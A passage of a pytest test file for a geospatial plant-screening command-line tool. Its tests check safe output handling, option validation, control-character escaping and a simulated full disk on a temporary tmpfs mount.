        run(config_for(more, builtup_file, out, figures=False))
    message = str(info.value)
    assert message.startswith(f"writing map.html into {out} failed: the disk is full")
    assert "MB" in message and "unchanged" in message
    assert describe(out) == first  # screening.gpkg and lists.xlsx of the failed run are gone
    assert sorted(p.name for p in out.iterdir()) == sorted(first)  # nothing hidden left


@pytest.mark.slow
def test_run_json_always_lists_the_files_beside_it_and_stale_figures_go(
    tmp_path, plants, builtup_file
):
    from spatial.pipeline import run

    out = tmp_path / "out"
    run(config_for(plants, builtup_file, out, figures=True))
    record = assert_record_describes_folder(out)
    assert any(name.startswith("figures/") for name in record["files"])
    (out / "figures" / "my_annotated.png").write_bytes(b"mine")  # the user's own file
    (out / ".thesis.docx.99999.tmp").write_bytes(b"mine")
    (out / "notes.txt").write_bytes(b"mine")

    run(config_for(plants, builtup_file, out, figures=False))
    record = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert not any(name.startswith("figures/") for name in record["files"])
    assert [p.name for p in (out / "figures").iterdir()] == ["my_annotated.png"]
    assert (out / ".thesis.docx.99999.tmp").read_bytes() == b"mine"
    assert (out / "notes.txt").read_bytes() == b"mine"
    assert set(describe(out)) == set(record["files"]) | {"figures/my_annotated.png", "notes.txt"}


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"map_url": "ftp://intranet/map.html"}, "map_url should be an absolute http"),
        ({"basemap": "tianditu", "tianditu_key": None}, "needs a Tianditu key"),
        ({"scheduler": "tcp://10.0.0.5:8786"}, "only used by --engine dask"),
    ],
)
def test_checkable_options_are_refused_before_any_work(
    monkeypatch, tmp_path, plants, builtup_file, options, message
):
    import spatial.pipeline
    from spatial.errors import SpatialError

    monkeypatch.delenv("TIANDITU_KEY", raising=False)

    def no_work(*args, **kwargs):
        raise AssertionError("the inventory was read before the options were checked")

    monkeypatch.setattr(spatial.pipeline, "load_enterprises", no_work)
    monkeypatch.setattr(spatial.pipeline, "load_policies", no_work)
    out = tmp_path / "out"
    with pytest.raises(SpatialError, match=message):
        spatial.pipeline.run(config_for(plants, builtup_file, out, **options))
    assert not out.exists()


def test_a_folder_of_other_files_is_refused_and_untouched(tmp_path, plants, builtup_file):
    from spatial.errors import OutputError
    from spatial.pipeline import run

    folder = tmp_path / "documents"
    folder.mkdir()
    (folder / "thesis.docx").write_bytes(b"x")
    (folder / ".thesis.docx.99999.tmp").write_bytes(b"x")
    with pytest.raises(OutputError, match="not an output folder of this tool"):
        run(config_for(plants, builtup_file, folder, figures=False))
    assert sorted(p.name for p in folder.iterdir()) == [".thesis.docx.99999.tmp", "thesis.docx"]


def screen_cli(*args: str):
    from click.testing import CliRunner

    from spatial.cli import main

    return CliRunner().invoke(main, ["screen", *args])


def test_out_root_is_refused_without_a_traceback(monkeypatch, plants, builtup_file):
    import spatial.lock

    def never(self):  # should the refusal ever break, fail here instead of writing into /
        raise AssertionError(f"the run went on to lock {self.folder}")

    monkeypatch.setattr(spatial.lock.OutputLock, "acquire", never)
    result = screen_cli(
        "--enterprises", str(plants), "--builtup", str(builtup_file), "--no-figures", "--out", "/"
    )
    assert result.exit_code == 1
    assert "--out / already holds other files" in result.output
    assert "Traceback" not in result.output and result.exception.__class__ is SystemExit


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--layer", "builtup={builtup}"], "'builtup' is the layer of --builtup"),
        (["--layer", "x={builtup}", "--layer", "x={builtup}"], "'x' is given twice"),
        (["--scheduler", "tcp://10.0.0.5:8786"], "--scheduler is only used by --engine dask"),
        (["--builtup-class", "50"], "--builtup-class applies to a raster (.tif)"),
        (["--builtup-threshold", "0.5"], "--builtup-threshold applies to a raster"),
        (["--osm-gap-m", "30"], "--osm-gap-m applies to an OpenStreetMap file"),
        (["--zones-osm", "{builtup}"], "--zones-osm gives the ring road for --zones"),
    ],
)
def test_conflicting_or_ignored_options_are_refused(tmp_path, plants, builtup_file, extra, message):
    out = tmp_path / "out"
    extra = [e.format(builtup=builtup_file) for e in extra]
    result = screen_cli(
        "--enterprises", str(plants), "--builtup", str(builtup_file), "--out", str(out), *extra
    )
    assert result.exit_code == 2, result.output
    assert message in result.output, result.output
    assert not out.exists()


def test_a_csv_of_points_as_a_layer(tmp_path, plants, builtup_file):
    from spatial.layers import load_context_layer

    points = tmp_path / "points.csv"
    points.write_text("名称,经度,纬度\n水源地,112.75,37.69\n", encoding="utf-8")
    layer = load_context_layer(points, "water")
    assert layer["name"].tolist() == ["水源地"] and layer.crs.to_epsg() == 4326
    result = screen_cli(
        "--enterprises", str(plants), "--builtup", str(builtup_file), "--no-figures",
        "--layer", f"water={points}", "--out", str(tmp_path / "out"),
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    bad = tmp_path / "bad.csv"
    bad.write_text("a,b\n1,2\n", encoding="utf-8")
    result = screen_cli(
        "--enterprises", str(plants), "--builtup", str(builtup_file), "--no-figures",
        "--layer", f"water={bad}", "--out", str(tmp_path / "out2"),
    )  # fmt: skip
    assert result.exit_code == 1 and "has no geometry and no lon/lat columns" in result.output
    assert "Traceback" not in result.output


def test_check_and_screen_agree_on_a_control_character(tmp_path, csv_file, builtup_file):
    """A \\x01 in a name: check says the row needs fixing; screen rejects it too and writes
    every output (openpyxl would refuse the character)."""
    from openpyxl import load_workbook

    from spatial.check import check_inventory
    from spatial.pipeline import run

    path = csv_file([PLANTS[0], PLANTS[1].replace("甲铸造厂", "甲\x01铸造厂"), PLANTS[2]])
    report = check_inventory(path)
    assert report.exit_code == 1
    text = report.text()  # in words, no reason code: the planner retypes the named cell
    assert "含不可见的控制字符" in text and "第 2 行" in text and "\\x01" in text
    assert "control_character" not in text
    result = run(config_for(path, builtup_file, tmp_path / "out", figures=False))
    assert result.inventory.rejected["row"].tolist() == report.inventory.rejected["row"].tolist()
    assert result.enterprises["id"].tolist() == ["A2"]
    load_workbook(tmp_path / "out" / "lists.xlsx").close()
    stored = gpd.read_file(tmp_path / "out" / "screening.gpkg", layer="rejected")
    assert stored["name"].tolist() == ["甲\\x01铸造厂"]


def test_a_built_up_polygon_without_a_name_keeps_its_geometry(tmp_path, plants):
    from shapely.geometry import box

    from spatial.pipeline import run

    yuci = box(112.72, 37.67, 112.78, 37.72)  # A1 inside
    taigu = box(112.53, 37.40, 112.57, 37.44)  # A2 inside: the one without a name
    layer = gpd.GeoDataFrame(
        {"name": ["榆次区", None], "level": ["city", "county"]}, geometry=[yuci, taigu], crs=4326
    )
    path = tmp_path / "builtup.gpkg"
    layer.to_file(path)
    seen = []
    result = run(config_for(plants, path, tmp_path / "out", figures=False), warn=seen.append)
    e = result.enterprises.set_index("id")
    assert e.loc["A2", "dist_builtup_m"] == 0 and e.loc["A2", "nearest_builtup"] == "未命名-1"
    assert sorted(result.layers["builtup"]["name"]) == ["未命名-1", "榆次区"]
    assert any("feature 2 → 未命名-1" in text for text in seen), seen
    record = json.loads((tmp_path / "out" / "run.json").read_text(encoding="utf-8"))
    assert any("未命名-1" in text for text in record["counts"]["layer_warnings"])


DISK_FULL = """
set -e
mount -t tmpfs -o size={size}k tmpfs {mount}
mkdir -p {keep}
{spatial} screen --enterprises {plants} --builtup {builtup} --no-figures \\
    --out {mount}/out > /dev/null 2> {keep}/first.txt
sha256sum {mount}/out/* > {mount}/before.txt
set +e
{spatial} screen --enterprises {plants} --builtup {builtup} --no-figures \\
    --out {mount}/out > {mount}/stdout.txt 2> {mount}/stderr.txt
echo $? > {mount}/rc.txt
sha256sum {mount}/out/* > {mount}/after.txt
ls -A {mount}/out > {mount}/listing.txt
cp {mount}/*.txt {keep}/
"""


@pytest.mark.slow
def test_a_really_full_disk_keeps_the_previous_outputs(tmp_path, plants, builtup_file):
    """On a tmpfs with room for one output set but not for two side by side."""
    import shutil
    import subprocess
    import sys

    if os.geteuid() != 0 or shutil.which("unshare") is None:
        pytest.skip("needs root and unshare to mount a small tmpfs in a private namespace")
    probe = subprocess.run(["unshare", "-m", "true"], capture_output=True)
    if probe.returncode != 0:
        pytest.skip(f"unshare -m is not allowed here: {probe.stderr.decode().strip()}")
    measured = tmp_path / "measured"
    result = screen_cli(
        "--enterprises", str(plants), "--builtup", str(builtup_file), "--no-figures",
        "--out", str(measured),
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    one_set = sum(len(data) for data in describe(measured).values())
    mount, keep = tmp_path / "disk", tmp_path / "keep"
    mount.mkdir()
    script = DISK_FULL.format(
        # room for one set (and the temporary copies while writing it), not for two side by side
        size=int(one_set * 1.8) // 1024,
        mount=mount,
        keep=keep,
        spatial=f"{sys.executable} -c 'from spatial.cli import main; main()'",
        plants=plants,
        builtup=builtup_file,
    )
    done = subprocess.run(["unshare", "-m", "sh", "-c", script], capture_output=True, text=True)
    first = (keep / "first.txt").read_text() if (keep / "first.txt").exists() else ""
    assert done.returncode == 0, (done.stderr, first)
    stderr = (keep / "stderr.txt").read_text()
    assert (keep / "rc.txt").read_text().strip() == "1", stderr
    assert "Traceback" not in stderr
    assert re.search(r"writing (screening\.gpkg|lists\.xlsx|map\.html|run\.json) into", stderr)
    assert "the disk is full" in stderr and "MB are free there" in stderr, stderr
    assert "The previous outputs in" in stderr and "are unchanged" in stderr
    assert (keep / "before.txt").read_text() == (keep / "after.txt").read_text()
    assert (keep / "listing.txt").read_text().split() == sorted(
        ["lists.xlsx", "map.html", "run.json", "screening.gpkg"]
    )


def test_a_control_character_in_a_layer_name_is_escaped_not_fatal(tmp_path, plants):
    from openpyxl import load_workbook
    from shapely.geometry import box

    from spatial.pipeline import run

    layer = gpd.GeoDataFrame(
        {"name": ["榆次\x01区"], "level": ["city"]},
        geometry=[box(112.72, 37.67, 112.78, 37.72)],
        crs=4326,
    )
    path = tmp_path / "builtup.gpkg"
    layer.to_file(path)
    seen = []
    result = run(config_for(plants, path, tmp_path / "out", figures=False), warn=seen.append)
    assert result.enterprises.set_index("id").loc["A1", "nearest_builtup"] == "榆次\\x01区"
    assert any("control characters" in text for text in seen), seen
    load_workbook(tmp_path / "out" / "lists.xlsx").close()
